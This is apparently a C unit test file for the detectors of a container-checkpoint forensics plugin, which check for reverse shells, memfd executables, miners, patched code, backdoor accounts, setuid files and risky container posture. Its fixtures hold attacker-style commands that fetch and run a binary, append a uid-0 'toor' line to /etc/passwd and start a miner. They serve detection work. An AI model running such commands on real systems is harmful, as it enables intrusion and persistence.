/* test-detect.c - the detectors of plugins/detect on crafted views: each
 * fires on the shape it is for, at the severity it documents, and stays
 * quiet on the benign shapes next to it (busybox applets, symlinked
 * interpreters, process titles, CRIU's parasite page, JIT-less processes,
 * loopback traffic). The plugin over the real fixtures is tested by
 * tests/cli/triage.sh. */
#include <glib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>

#include "detectors.h"

typedef struct {
  GPtrArray *ids; /* "id:severity:pid" */
  GPtrArray *evidence;
} Seen;

static void
record(void *ctx, const CkptFinding *f)
{
  Seen *s = ctx;
  g_ptr_array_add(s->ids,
                  g_strdup_printf("%s:%s:%u", f->id,
                                  ckpt_severity_name(f->severity), f->pid));
  g_ptr_array_add(s->evidence, g_strdup(f->evidence ? f->evidence : ""));
}

static Seen *
seen_new(void)
{
  Seen *s = g_new0(Seen, 1);
  s->ids = g_ptr_array_new_with_free_func(g_free);
  s->evidence = g_ptr_array_new_with_free_func(g_free);
  return s;
}

static void
seen_free(Seen *s)
{
  g_ptr_array_unref(s->ids);
  g_ptr_array_unref(s->evidence);
  g_free(s);
}

static gboolean
has(Seen *s, const char *id)
{
  for (guint i = 0; i < s->ids->len; i++)
    if (strcmp(g_ptr_array_index(s->ids, i), id) == 0)
      return TRUE;
  return FALSE;
}

/* any finding of this id, whatever its severity and pid */
static gboolean
has_id(Seen *s, const char *id)
{
  size_t n = strlen(id);
  for (guint i = 0; i < s->ids->len; i++) {
    const char *x = g_ptr_array_index(s->ids, i);
    if (strncmp(x, id, n) == 0 && x[n] == ':')
      return TRUE;
  }
  return FALSE;
}

static const char *const no_env[] = {NULL};

static CkptProcessInfo
proc(uint32_t pid, const char *comm, const char *exe, const char *const *argv)
{
  CkptProcessInfo p = {0};
  p.size = sizeof p;
  p.pid = pid;
  p.comm = comm;
  p.exe = exe;
  p.argv = argv;
  p.envp = no_env;
  p.cmdline = argv && argv[0] ? argv[0] : "";
  p.state = CKPT_PROC_ALIVE;
  p.has_mm = 1;
  p.seccomp_mode = 2;
  p.no_new_privs = 1;
  p.uid = p.euid = 1000;
  p.cap_eff = 0;
  return p;
}

static Seen *
run_process(const CkptProcessInfo *info, const CkptFdInfo *const *fds,
            size_t n_fds)
{
  Seen *s = seen_new();
  DetSink out = {record, s};
  DetProcess p = {info, fds, n_fds, NULL, 0};
  det_process(&p, &out);
  return s;
}

static CkptSocketInfo
tcp(const char *src, uint32_t sport, const char *dst, uint32_t dport,
    const char *state)
{
  CkptSocketInfo s = {0};
  s.size = sizeof s;
  s.kind = CKPT_SK_INET;
  s.family = AF_INET;
  s.type = SOCK_STREAM;
  s.proto_name = "TCP";
  s.src_addr = src;
  s.src_port = sport;
  s.dst_addr = dst;
  s.dst_port = dport;
  s.state_name = state;
  return s;
}

static void
test_reverse_shell(void)
{
  static const char *const sh[] = {"sh", NULL};
  static const char *const py[] = {"python3", "-c", "x", NULL};
  static const char *const app[] = {"/app/server", NULL};
  CkptSocketInfo sk =
      tcp("10.0.0.5", 38211, "203.0.113.7", 4444, "ESTABLISHED");
  CkptFdInfo f0 = {
      .size = sizeof f0, .fd = 0, .kind = CKPT_FD_SOCKET, .socket = &sk};
  CkptFdInfo f1 = f0;
  f1.fd = 1;
  const CkptFdInfo *fds[] = {&f0, &f1};

  /* busybox's sh applet with its stdin and stdout on a TCP socket */
  CkptProcessInfo p = proc(7, "sh", "/bin/busybox", sh);
  Seen *s = run_process(&p, fds, 2);
  g_assert_true(has(s, "reverse-shell:critical:7"));
  g_assert_nonnull(strstr(g_ptr_array_index(s->evidence, 0), "fd 0"));
  g_assert_nonnull(strstr(g_ptr_array_index(s->evidence, 0), "203.0.113.7"));
  seen_free(s);

  /* python3.11 found through its real exe */
  p = proc(8, "python3", "/usr/bin/python3.11", py);
  s = run_process(&p, fds, 2);
  g_assert_true(has(s, "reverse-shell:critical:8"));
  seen_free(s);

  /* a unix socket on stdin: medium */
  CkptSocketInfo ux = {
      .size = sizeof ux, .kind = CKPT_SK_UNIX, .proto_name = "UNIX"};
  CkptFdInfo u0 = {
      .size = sizeof u0, .fd = 0, .kind = CKPT_FD_SOCKET, .socket = &ux};
  const CkptFdInfo *ufds[] = {&u0};
  p = proc(9, "bash", "/usr/bin/bash", sh);
  s = run_process(&p, ufds, 1);
  g_assert_true(has(s, "reverse-shell:medium:9"));
  seen_free(s);

  /* a server whose stdin is a socket is not a shell; a shell whose
   * socket is on fd 5 keeps its streams */
  p = proc(10, "server", "/app/server", app);
  s = run_process(&p, fds, 2);
  g_assert_false(has_id(s, "reverse-shell"));
  seen_free(s);
  CkptFdInfo f5 = f0;
  f5.fd = 5;
  const CkptFdInfo *fds5[] = {&f5};
  p = proc(11, "sh", "/bin/busybox", sh);
  s = run_process(&p, fds5, 1);
  g_assert_false(has_id(s, "reverse-shell"));
  seen_free(s);
}

static void
test_exe(void)
{
  static const char *const a[] = {"x", NULL};
  CkptProcessInfo p = proc(3, "x", "/memfd:payload (deleted)", a);
  Seen *s = run_process(&p, NULL, 0);
  g_assert_true(has(s, "memfd-exe:critical:3"));
  g_assert_false(has_id(s, "deleted-exe")); /* one finding, the worse */
  seen_free(s);

  p = proc(4, "x", "/usr/local/bin/x (deleted)", a);
  s = run_process(&p, NULL, 0);
  g_assert_true(has(s, "deleted-exe:high:4"));
  g_assert_false(has_id(s, "exe-in-tmp"));
  seen_free(s);

  static const char *const paths[] = {"/tmp/x", "/dev/shm/x", "/var/tmp/a/x",
                                      "/usr/lib/.hidden/x", "/root/.x/y"};
  for (size_t i = 0; i < G_N_ELEMENTS(paths); i++) {
    p = proc(5, "x", paths[i], a);
    s = run_process(&p, NULL, 0);
    g_assert_true(has(s, "exe-in-tmp:medium:5"));
    seen_free(s);
  }
  /* a dot-named file, "." and ".." components and /tmpfoo are not */
  static const char *const fine[] = {"/usr/bin/.x", "/usr/./bin/x",
                                     "/usr/../bin/x", "/tmpfoo/x"};
  for (size_t i = 0; i < G_N_ELEMENTS(fine); i++) {
    p = proc(5, "x", fine[i], a);
    s = run_process(&p, NULL, 0);
    g_assert_false(has_id(s, "exe-in-tmp"));
    seen_free(s);
  }
}

static void
test_name_spoofing(void)
{
  static const char *const kw[] = {"[kworker/0:1]", NULL};
  CkptProcessInfo p = proc(6, "kworker/0:1", "/tmp/.x/miner", kw);
  Seen *s = run_process(&p, NULL, 0);
  g_assert_true(has(s, "name-spoofing:high:6"));
  seen_free(s);

  static const char *const a[] = {"/app/workload", NULL};
  p = proc(2, "ckpt-stopped", "/app/workload", a);
  s = run_process(&p, NULL, 0);
  g_assert_true(has(s, "name-spoofing:medium:2"));
  seen_free(s);

  /* benign: process titles, symlinked programs, busybox applets, and a
   * comm cut to 15 bytes */
  static const char *const title[] = {"nginx: master process nginx", NULL};
  static const char *const py[] = {"python3", "-m", "http.server", NULL};
  static const char *const ls[] = {"ls", NULL};
  static const char *const lng[] = {"/usr/bin/containerd-shim-runc-v2", NULL};
  struct {
    const char *comm, *exe;
    const char *const *argv;
  } benign[] = {
      {"nginx", "/usr/sbin/nginx", title},
      {"python3", "/usr/bin/python3.11", py},
      {"ls", "/bin/busybox", ls},
      {"containerd-shim", "/usr/bin/containerd-shim-runc-v2", lng},
  };
  for (size_t i = 0; i < G_N_ELEMENTS(benign); i++) {
    p = proc(1, benign[i].comm, benign[i].exe, benign[i].argv);
    s = run_process(&p, NULL, 0);
    g_assert_false(has_id(s, "name-spoofing"));
    seen_free(s);
  }
}

static void
test_env_and_miner(void)
{
  static const char *const a[] = {"/app/x", NULL};
  static const char *const env[] = {"PATH=/bin", "LD_PRELOAD=/tmp/hook.so",
                                    "LD_LIBRARY_PATH=/opt/lib",
                                    "LD_PRELOAD=", NULL};
  CkptProcessInfo p = proc(12, "x", "/app/x", a);
  p.envp = env;
  Seen *s = run_process(&p, NULL, 0);
  g_assert_true(has(s, "ld-preload:high:12"));
  g_assert_true(has(s, "ld-preload:low:12"));
  g_assert_cmpuint(s->ids->len, ==, 2); /* an empty LD_PRELOAD is nothing */
  seen_free(s);

  static const char *const m[] = {"./kthreadd", NULL};
  p = proc(13, "kthreadd", "/app/kthreadd", m);
  p.cmdline = "./kthreadd -o stratum+tcp://pool.example:3333 -u WALLET "
              "--donate-level 1";
  s = run_process(&p, NULL, 0);
  g_assert_true(has(s, "miner:high:13"));
  seen_free(s);

  p = proc(14, "redis-server", "/usr/bin/redis-server", a);
  p.cmdline = "redis-server *:6379";
  s = run_process(&p, NULL, 0);
  g_assert_cmpuint(s->ids->len, ==, 0);
  seen_free(s);
}

/* memory: VMAs and blocks */
static CkptVmaInfo
vma(uint64_t start, uint64_t end, uint32_t prot, CkptVmaKind kind,
    const char *path)
{
  CkptVmaInfo v = {0};
  v.size = sizeof v;
  v.start = start;
  v.end = end;
  v.prot = prot;
  v.flags = MAP_PRIVATE;
  v.kind = kind;
  v.path = path;
  v.label = kind == CKPT_VMA_FILE ? "file" : "anon";
  return v;
}

static void
test_memory(void)
{
  static const char *const a[] = {"/app/x", NULL};
  CkptProcessInfo info = proc(20, "x", "/app/x", a);
  CkptVmaInfo text =
      vma(0x401000, 0x404000, PROT_READ | PROT_EXEC, CKPT_VMA_FILE, "/app/x");
  CkptVmaInfo rwx =
      vma(0x7f0000000000, 0x7f0000002000, PROT_READ | PROT_WRITE | PROT_EXEC,
          CKPT_VMA_ANON, NULL);
  CkptVmaInfo rw = vma(0x7f0000010000, 0x7f0000014000, PROT_READ | PROT_WRITE,
                       CKPT_VMA_ANON, NULL);
  const CkptVmaInfo *vmas[] = {&text, &rwx, &rw};
  DetProcess p = {&info, NULL, 0, vmas, 3};
  Seen *s = seen_new();
  DetSink out = {record, s};

  static uint8_t page[3 * 4096];
  memset(page, 0x90, sizeof page);
  DetMemState *st = det_memory_begin(&p, &out);
  /* CRIU's parasite page alone: nothing */
  CkptMemBlock b = {.size = sizeof b,
                    .addr = 0x401000,
                    .data = page,
                    .len = 4096,
                    .vma = &text};
  det_memory_block(st, &b);
  det_memory_end(st);
  g_assert_true(has(s, "anon-exec:high:20"));
  g_assert_false(has_id(s, "patched-code"));
  g_assert_false(has_id(s, "elf-in-anon"));
  seen_free(s);

  /* the parasite page and the next one: the next is patched code */
  s = seen_new();
  out.ctx = s;
  st = det_memory_begin(&p, &out);
  b.len = 2 * 4096;
  det_memory_block(st, &b);
  /* an ELF header page-aligned in anonymous memory, and one that is not
   * aligned (a buffer holding a header is not a mapped image) */
  static uint8_t anon[2 * 4096];
  memset(anon, 0, sizeof anon);
  static const uint8_t hdr[24] = {0x7f, 'E', 'L',  'F', 2, 1, 1, 0,
                                  0,    0,   0,    0,   0, 0, 0, 0,
                                  3,    0,   0x3e, 0,   1, 0, 0, 0};
  memcpy(anon + 4096, hdr, sizeof hdr);
  memcpy(anon + 100, hdr, sizeof hdr);
  CkptMemBlock ab = {.size = sizeof ab,
                     .addr = 0x7f0000010000,
                     .data = anon,
                     .len = sizeof anon,
                     .vma = &rw};
  det_memory_block(st, &ab);
  det_memory_end(st);
  g_assert_true(has(s, "patched-code:high:20"));
  g_assert_true(has(s, "elf-in-anon:high:20"));
  for (guint i = 0; i < s->ids->len; i++)
    if (g_str_has_prefix(g_ptr_array_index(s->ids, i), "elf-in-anon"))
      g_assert_nonnull(
          strstr(g_ptr_array_index(s->evidence, i), "0x7f0000011000"));
  seen_free(s);

  /* a header with a bad version is no image */
  s = seen_new();
  out.ctx = s;
  const CkptVmaInfo *only_rw[] = {&rw};
  DetProcess q = {&info, NULL, 0, only_rw, 1};
  memset(anon, 0, sizeof anon);
  memcpy(anon, hdr, sizeof hdr);
  anon[20] = 2;
  st = det_memory_begin(&q, &out);
  det_memory_block(st, &ab);
  det_memory_end(st);
  g_assert_cmpuint(s->ids->len, ==, 0);
  seen_free(s);
}

typedef struct {
  const uint8_t *base;
  uint64_t addr;
  size_t len;
} Mem;

static size_t
mem_read(void *ctx, uint64_t addr, void *buf, size_t len)
{
  Mem *m = ctx;
  if (addr < m->addr || addr >= m->addr + m->len)
    return 0;
  size_t n = MIN(len, (size_t)(m->addr + m->len - addr));
  memcpy(buf, m->base + (addr - m->addr), n);
  return n;
}

static void
test_bash_history(void)
{
  static const char *const a[] = {"bash", NULL};
  CkptProcessInfo info = proc(30, "bash", "/usr/bin/bash", a);
  g_assert_true(det_is_bash(&info));
  static uint8_t heap[4096];
  memset(heap, 0, sizeof heap);
  const uint64_t base = 0x55550000;
  /* two entries: line, timestamp string, struct {line, timestamp, data} */
  memcpy(heap + 0x100, "wget http://203.0.113.7/x -O /tmp/x", 36);
  memcpy(heap + 0x140, "#1764191100", 12);
  memcpy(heap + 0x180, "chmod +x /tmp/x", 16);
  memcpy(heap + 0x1c0, "#1764191160", 12);
  uint64_t e1[3] = {base + 0x100, base + 0x140, 0};
  uint64_t e2[3] = {base + 0x180, base + 0x1c0, 0};
  memcpy(heap + 0x200, e1, sizeof e1);
  memcpy(heap + 0x220, e2, sizeof e2);
  /* a pointer to a timestamp whose "line" is garbage */
  memcpy(heap + 0x300, "#1764191999", 12);
  uint64_t e3[2] = {base + 0x7000, base + 0x300};
  memcpy(heap + 0x340, e3, sizeof e3);
  Mem m = {heap, base, sizeof heap};
  CkptMemBlock b = {
      .size = sizeof b, .addr = base, .data = heap, .len = sizeof heap};
  DetProcess p = {&info, NULL, 0, NULL, 0};
  Seen *s = seen_new();
  DetSink out = {record, s};
  det_bash_history(&p, &b, mem_read, &m, &out);
  g_assert_cmpuint(s->ids->len, ==, 2);
  g_assert_cmpstr(g_ptr_array_index(s->evidence, 0), ==,
                  "2025-11-26T21:05:00Z  wget http://203.0.113.7/x -O /tmp/x");
  g_assert_cmpstr(g_ptr_array_index(s->evidence, 1), ==,
                  "2025-11-26T21:06:00Z  chmod +x /tmp/x");
  seen_free(s);

  /* the heap dumped as two runs with a hole between them: the timestamp
   * and the line in the first, the entry pointing at them in the second
   * (as in real-attack.tar's bash); read in one pass per run, nothing
   * would be found. Entries come out in time order. */
  static uint8_t run[3 * 4096];
  memset(run, 0, sizeof run);
  memcpy(run + 0x10, "#1764191300", 12);
  memcpy(run + 0x40, "echo toor:x:0:0::/root:/bin/sh >> /etc/passwd", 46);
  memcpy(run + 0x80, "#1764191200", 12);
  memcpy(run + 0x2000 + 0x800, "id", 3);
  uint64_t late[3] = {base + 0x40, base + 0x10, 0};
  uint64_t early[3] = {base + 0x2800, base + 0x80, 0};
  memcpy(run + 0x2000 + 0x100, late, sizeof late);
  memcpy(run + 0x2000 + 0x200, early, sizeof early);
  Mem whole = {run, base, sizeof run};
  CkptMemBlock first = {.addr = base, .data = run, .len = 4096};
  CkptMemBlock second = {
      .addr = base + 0x2000, .data = run + 0x2000, .len = 4096};
  s = seen_new();
  out.ctx = s;
  DetBashState *st = det_bash_begin(&p);
  det_bash_stamps(st, &first);
  det_bash_stamps(st, &second);
  g_assert_true(det_bash_has_stamps(st));
  det_bash_entries(st, &first, mem_read, &whole);
  det_bash_entries(st, &second, mem_read, &whole);
  det_bash_end(st, &out);
  g_assert_cmpuint(s->ids->len, ==, 2);
  g_assert_true(has(s, "shell-history:info:30"));
  g_assert_cmpstr(g_ptr_array_index(s->evidence, 0), ==,
                  "2025-11-26T21:06:40Z  id");
  g_assert_cmpstr(g_ptr_array_index(s->evidence, 1), ==,
                  "2025-11-26T21:08:20Z  echo toor:x:0:0::/root:/bin/sh >> "
                  "/etc/passwd");
  seen_free(s);
  /* one run at a time (the old walk) misses both */
  s = seen_new();
  out.ctx = s;
  det_bash_history(&p, &first, mem_read, &whole, &out);
  det_bash_history(&p, &second, mem_read, &whole, &out);
  g_assert_cmpuint(s->ids->len, ==, 0);
  seen_free(s);

  CkptProcessInfo sh = proc(31, "sh", "/bin/busybox", a);
  g_assert_false(det_is_bash(&sh));
}

static void
test_rootfs(void)
{
  Seen *s = seen_new();
  DetSink out = {record, s};
  const char passwd[] = "root:x:0:0:root:/root:/bin/sh\n"
                        "daemon:x:1:1::/:/bin/false\n"
                        "toor:x:0:0::/root:/bin/sh\n";
  det_rootfs_file("/etc/passwd", (const uint8_t *)passwd, strlen(passwd),
                  strlen(passwd), &out);
  g_assert_true(has(s, "uid0-account:critical:0"));
  g_assert_nonnull(strstr(g_ptr_array_index(s->evidence, 0), "toor"));
  g_assert_cmpuint(s->ids->len, ==, 1);
  seen_free(s);

  s = seen_new();
  out.ctx = s;
  const char ok[] = "root:x:0:0:root:/root:/bin/sh\n";
  det_rootfs_file("/etc/passwd", (const uint8_t *)ok, strlen(ok), strlen(ok),
                  &out);
  det_rootfs_file("/etc/passwd.bak", (const uint8_t *)passwd, strlen(passwd),
                  strlen(passwd), &out);
  det_rootfs_file("/data/app.log", (const uint8_t *)"x", 1, 1, &out);
  g_assert_cmpuint(s->ids->len, ==, 0);
  det_rootfs_file("/etc/ld.so.preload", (const uint8_t *)"/lib/x.so\n", 10, 10,
                  &out);
  det_rootfs_file("/root/.ssh/authorized_keys",
                  (const uint8_t *)"ssh-ed25519 AAAA x", 18, 18, &out);
  det_rootfs_file("/etc/cron.d/job", (const uint8_t *)"* * * * * root x", 16,
                  16, &out);
  det_rootfs_file("/var/spool/cron/crontabs/root", (const uint8_t *)"x", 1, 1,
                  &out);
  det_rootfs_file("/usr/local/bin/tool", (const uint8_t *)"\177ELF", 4, 4,
                  &out);
  g_assert_true(has(s, "ld-so-preload:critical:0"));
  g_assert_true(has(s, "authorized-keys:high:0"));
  g_assert_true(has(s, "cron-change:high:0"));
  g_assert_cmpuint(s->ids->len, ==, 5); /* two cron files */
  g_assert_true(has(s, "system-binary-changed:medium:0"));
  g_assert_nonnull(strstr(g_ptr_array_index(s->evidence, 4), "ELF"));
  seen_free(s);

  /* many system files: twenty, then one line for the rest */
  s = seen_new();
  out.ctx = s;
  DetRootfsState st = {0};
  for (int i = 0; i < 50; i++) {
    char path[64];
    g_snprintf(path, sizeof path, "/usr/lib/x/%d.so", i);
    det_rootfs_file_st(&st, path, (const uint8_t *)"x", 1, 1, &out);
  }
  det_rootfs_end(&st, &out);
  g_assert_cmpuint(s->ids->len, ==, DET_MAX_SYSTEM_FILES + 1);
  g_assert_nonnull(
      strstr(g_ptr_array_index(s->evidence, s->ids->len - 1), "30 more"));
  seen_free(s);
}

/* patched-code against the rootfs diff's copy of the file */
static void
test_patch_judge(void)
{
  static const char *const a[] = {"/app/x", NULL};
  CkptProcessInfo info = proc(21, "x", "/app/x", a);
  /* text at file offset 0x1000, two pages mapped, the second dumped */
  CkptVmaInfo text =
      vma(0x401000, 0x403000, PROT_READ | PROT_EXEC, CKPT_VMA_FILE, "/app/x");
  text.pgoff = 0x1000;
  const CkptVmaInfo *vmas[] = {&text};
  DetProcess p = {&info, NULL, 0, vmas, 1};
  static uint8_t file[0x3000], mem[0x2000];
  for (size_t i = 0; i < sizeof file; i++)
    file[i] = (uint8_t)(i * 7);
  memcpy(mem, file + 0x1000, sizeof mem);
  Mem m = {mem, 0x401000, sizeof mem};
  GPtrArray *patches =
      g_ptr_array_new_with_free_func((GDestroyNotify)det_patch_free);
  Seen *s = seen_new();
  DetSink out = {record, s};
  DetMemState *st = det_memory_begin(&p, &out);
  det_memory_defer_patches(st, patches, &m);
  CkptMemBlock b = {
      .addr = 0x401000, .data = mem, .len = sizeof mem, .vma = &text};
  det_memory_block(st, &b);
  det_memory_end(st);
  /* deferred: nothing reported yet, the parasite's page left out */
  g_assert_cmpuint(s->ids->len, ==, 0);
  g_assert_cmpuint(patches->len, ==, 1);
  DetPatch *pt = g_ptr_array_index(patches, 0);
  g_assert_cmpuint(pt->first, ==, 0x402000);
  g_assert_cmpuint(pt->bytes, ==, 4096);

  /* the same bytes as the file: written back unchanged, nothing */
  det_patch_judge(pt, file, sizeof file, sizeof file, mem_read, &out);
  g_assert_cmpuint(s->ids->len, ==, 0);
  /* three bytes patched (xor eax,eax; ret) */
  memcpy(mem + 0x1010, "\x31\xc0\xc3", 3);
  det_patch_judge(pt, file, sizeof file, sizeof file, mem_read, &out);
  g_assert_true(has(s, "patched-code:high:21"));
  g_assert_nonnull(strstr(g_ptr_array_index(s->evidence, 0),
                          "3 of 4096 dumped bytes of /app/x (r-xp, offset "
                          "0x1000) differ from the rootfs diff's copy, first "
                          "at 0x402010"));
  /* the file read only in part: reported, but not as compared */
  det_patch_judge(pt, file, 0x2008, sizeof file, mem_read, &out);
  g_assert_cmpuint(s->ids->len, ==, 2);
  g_assert_nonnull(
      strstr(g_ptr_array_index(s->evidence, 1), "read only in part"));
  /* past the file's end the page is zeros: a file that ends at 0x2010
   * matches a page whose tail is zero, and not one whose tail is not */
  memset(mem + 0x1010, 0, 0x1000 - 0x10);
  memcpy(mem + 0x1000, file + 0x2000, 0x10);
  det_patch_judge(pt, file, 0x2010, 0x2010, mem_read, &out);
  g_assert_cmpuint(s->ids->len, ==, 2);
  mem[0x1fff] = 0xcc;
  det_patch_judge(pt, file, 0x2010, 0x2010, mem_read, &out);
  g_assert_cmpuint(s->ids->len, ==, 3);
  g_assert_nonnull(strstr(g_ptr_array_index(s->evidence, 2), "1 of 4096"));
  /* no file at hand: said so */
  det_patch_emit(pt, -1, 0, &out);
  g_assert_nonnull(strstr(g_ptr_array_index(s->evidence, 3),
                          "not in the rootfs diff to compare"));
  g_ptr_array_unref(patches);
  seen_free(s);
}

static CkptDiffEntryInfo
entry(const char *path, CkptDiffKind kind, uint32_t mode, uint32_t uid)
{
  CkptDiffEntryInfo e = {0};
  e.size = sizeof e;
  e.path = path;
  e.kind = kind;
  e.mode = mode;
  e.uid = e.gid = uid;
  e.full_size = 4;
  return e;
}

static void
test_setuid(void)
{
  Seen *s = seen_new();
  DetSink out = {record, s};
  const uint8_t *elf = (const uint8_t *)"\177ELF";
  /* a root shell made setuid outside the system directories: high */
  CkptDiffEntryInfo e = entry("/var/tmp/.x/.rootsh", CKPT_DIFF_REG, 04755, 0);
  det_rootfs_entry(&e, elf, 4, &out);
  g_assert_true(has(s, "setuid-file:high:0"));
  g_assert_cmpstr(g_ptr_array_index(s->evidence, 0), ==,
                  "/var/tmp/.x/.rootsh: mode 04755, owner 0:0, 4 bytes, ELF");
  /* a hard link to one is one too */
  e = entry("/tmp/x", CKPT_DIFF_HARDLINK, 04755, 0);
  e.link = "/var/tmp/.x/.rootsh";
  det_rootfs_entry(&e, (const uint8_t *)"", 0, &out);
  g_assert_cmpuint(s->ids->len, ==, 2);
  g_assert_nonnull(
      strstr(g_ptr_array_index(s->evidence, 1), "hard link to /var/tmp"));
  seen_free(s);

  /* what a package brings (sudo under /usr/bin), setgid only, or setuid
   * to someone other than root: medium */
  s = seen_new();
  out.ctx = s;
  e = entry("/usr/bin/sudo", CKPT_DIFF_REG, 04755, 0);
  det_rootfs_entry(&e, elf, 4, &out);
  e = entry("/srv/tool", CKPT_DIFF_REG, 02755, 0);
  det_rootfs_entry(&e, elf, 4, &out);
  e = entry("/srv/tool2", CKPT_DIFF_REG, 04755, 1000);
  det_rootfs_entry(&e, elf, 4, &out);
  g_assert_cmpuint(s->ids->len, ==, 3);
  for (guint i = 0; i < s->ids->len; i++)
    g_assert_cmpstr(g_ptr_array_index(s->ids, i), ==, "setuid-file:medium:0");
  seen_free(s);

  /* nothing: plain modes, set-id bits nobody can execute, setgid without
   * group execute (mandatory locking), directories (setgid dirs are
   * common), symlinks, no entry at all */
  s = seen_new();
  out.ctx = s;
  e = entry("/srv/a", CKPT_DIFF_REG, 0755, 0);
  det_rootfs_entry(&e, elf, 4, &out);
  e = entry("/srv/b", CKPT_DIFF_REG, 04644, 0);
  det_rootfs_entry(&e, elf, 4, &out);
  e = entry("/srv/c", CKPT_DIFF_REG, 02644, 0);
  det_rootfs_entry(&e, elf, 4, &out);
  e = entry("/srv/d", CKPT_DIFF_DIR, 02775, 0);
  det_rootfs_entry(&e, NULL, 0, &out);
  e = entry("/srv/e", CKPT_DIFF_SYMLINK, 04777, 0);
  det_rootfs_entry(&e, NULL, 0, &out);
  det_rootfs_entry(NULL, NULL, 0, &out);
  g_assert_cmpuint(s->ids->len, ==, 0);
  seen_free(s);
}

static void
test_host_namespace(void)
{
  CkptSpecNamespace full[] = {{"pid", NULL},   {"network", NULL},
                              {"ipc", NULL},   {"uts", NULL},
                              {"mount", NULL}, {"cgroup", NULL}};
  CkptContainerInfo ci = {0};
  ci.size = sizeof ci;
  Seen *s = seen_new();
  DetSink out = {record, s};
  /* no list in the spec: nothing known, nothing said */
  det_posture_namespaces(&ci, &out);
  det_posture_namespaces(NULL, &out);
  /* every namespace its own, no user namespace: the default */
  ci.spec_namespaces = full;
  ci.n_spec_namespaces = G_N_ELEMENTS(full);
  ci.has_spec_namespaces = 1;
  det_posture_namespaces(&ci, &out);
  g_assert_cmpuint(s->ids->len, ==, 0);
  /* network left out (hostNetwork), pid joining the host's init's, ipc a
   * pod sandbox's: high, high, info */
  CkptSpecNamespace shared[] = {{"pid", "/proc/1/ns/pid"},
                                {"ipc", "/var/run/ipcns/abc"},
                                {"uts", NULL},
                                {"mount", NULL}};
  ci.spec_namespaces = shared;
  ci.n_spec_namespaces = G_N_ELEMENTS(shared);
  det_posture_namespaces(&ci, &out);
  g_assert_cmpuint(s->ids->len, ==, 3);
  g_assert_cmpstr(g_ptr_array_index(s->ids, 0), ==, "host-namespace:high:0");
  g_assert_nonnull(strstr(g_ptr_array_index(s->evidence, 0), "/proc/1/ns/pid"));
  g_assert_cmpstr(g_ptr_array_index(s->ids, 1), ==, "host-namespace:high:0");
  g_assert_nonnull(
      strstr(g_ptr_array_index(s->evidence, 1), "no network namespace"));
  g_assert_cmpstr(g_ptr_array_index(s->ids, 2), ==, "host-namespace:info:0");
  seen_free(s);
  /* an empty list shares all five */
  s = seen_new();
  out.ctx = s;
  ci.n_spec_namespaces = 0;
  det_posture_namespaces(&ci, &out);
  g_assert_cmpuint(s->ids->len, ==, 5);
  g_assert_true(has(s, "host-namespace:critical:0")); /* mount */
  g_assert_true(has(s, "host-namespace:medium:0"));   /* uts */
  seen_free(s);
}

static void
test_posture(void)
{
  static const char *const a[] = {"x", NULL};
  Seen *s = seen_new();
  DetSink out = {record, s};
  /* Podman's default set, seccomp, root: only runs-as-root */
  CkptProcessInfo p = proc(1, "x", "/x", a);
  p.cap_eff = 0x800405fb;
  p.uid = p.euid = 0;
  det_posture_process(&p, &out);
  g_assert_cmpuint(s->ids->len, ==, 1);
  g_assert_true(has(s, "runs-as-root:low:1"));
  seen_free(s);

  s = seen_new();
  out.ctx = s;
  p.cap_eff = 0x1ffffffffffull;
  p.seccomp_mode = 0;
  p.no_new_privs = 0;
  det_posture_process(&p, &out);
  g_assert_true(has(s, "privileged:high:1"));
  g_assert_true(has(s, "seccomp-disabled:medium:1"));
  g_assert_true(has(s, "no-new-privs-off:info:1"));
  g_assert_false(has_id(s, "added-capabilities"));
  seen_free(s);

  s = seen_new();
  out.ctx = s;
  p = proc(1, "x", "/x", a);
  p.cap_eff = 0x800405fbull | (1ull << 21); /* + SYS_ADMIN */
  det_posture_process(&p, &out);
  g_assert_true(has(s, "added-capabilities:high:1"));
  g_assert_nonnull(strstr(g_ptr_array_index(s->evidence, 0), "SYS_ADMIN"));
  seen_free(s);
  s = seen_new();
  out.ctx = s;
  p.cap_eff = 0x800405fbull | (1ull << 23); /* + SYS_NICE */
  det_posture_process(&p, &out);
  g_assert_true(has(s, "added-capabilities:medium:1"));
  seen_free(s);

  s = seen_new();
  out.ctx = s;
  CkptSpecMount sock = {"/var/run/docker.sock", "/var/run/docker.sock", "bind",
                        "rbind,rw"};
  CkptSpecMount root = {"/host", "/", "bind", "rbind,ro"};
  CkptSpecMount sys = {"/sys", "sysfs", "sysfs", "nosuid,noexec,nodev,ro"};
  CkptSpecMount data = {"/data", "/srv/data", "bind", "rbind"};
  det_posture_mount(&sock, &out);
  det_posture_mount(&root, &out);
  det_posture_mount(&sys, &out);
  det_posture_mount(&data, &out);
  g_assert_true(has(s, "sensitive-mount:critical:0"));
  g_assert_true(has(s, "sensitive-mount:medium:0"));
  g_assert_cmpuint(s->ids->len, ==, 2);
  seen_free(s);
}

static void
test_network(void)
{
  Seen *s = seen_new();
  DetSink out = {record, s};
  uint32_t owner = 4;
  uint32_t listening[] = {8080, 0};
  CkptSocketInfo out1 =
      tcp("10.88.0.5", 40000, "198.51.100.9", 443, "ESTABLISHED");
  CkptSocketInfo in1 =
      tcp("10.88.0.5", 8080, "198.51.100.9", 50000, "ESTABLISHED");
  CkptSocketInfo lo = tcp("127.0.0.1", 55198, "127.0.0.1", 9090, "ESTABLISHED");
  CkptSocketInfo cl = tcp("10.88.0.5", 40001, "10.96.0.1", 443, "ESTABLISHED");
  CkptSocketInfo v6 =
      tcp("::ffff:10.0.0.1", 40002, "::ffff:8.8.8.8", 53, "ESTABLISHED");
  out1.owner_pids = in1.owner_pids = &owner;
  out1.n_owners = in1.n_owners = 1;
  det_socket(&out1, NULL, listening, &out);
  det_socket(&in1, NULL, listening, &out);
  det_socket(&lo, NULL, listening, &out);
  det_socket(&cl, NULL, listening, &out);
  det_socket(&v6, NULL, listening, &out);
  g_assert_true(has(s, "outbound-connection:medium:4"));
  g_assert_cmpuint(s->ids->len, ==, 2); /* out1 and the v4-mapped one */
  seen_free(s);

  s = seen_new();
  out.ctx = s;
  uint32_t declared[] = {80, 0};
  CkptSocketInfo l80 = tcp("0.0.0.0", 80, "0.0.0.0", 0, "LISTEN");
  CkptSocketInfo l4444 = tcp("0.0.0.0", 4444, "0.0.0.0", 0, "LISTEN");
  CkptSocketInfo llo = tcp("127.0.0.1", 6379, "0.0.0.0", 0, "LISTEN");
  det_socket(&l80, declared, NULL, &out);
  det_socket(&l4444, declared, NULL, &out);
  det_socket(&llo, declared, NULL, &out);
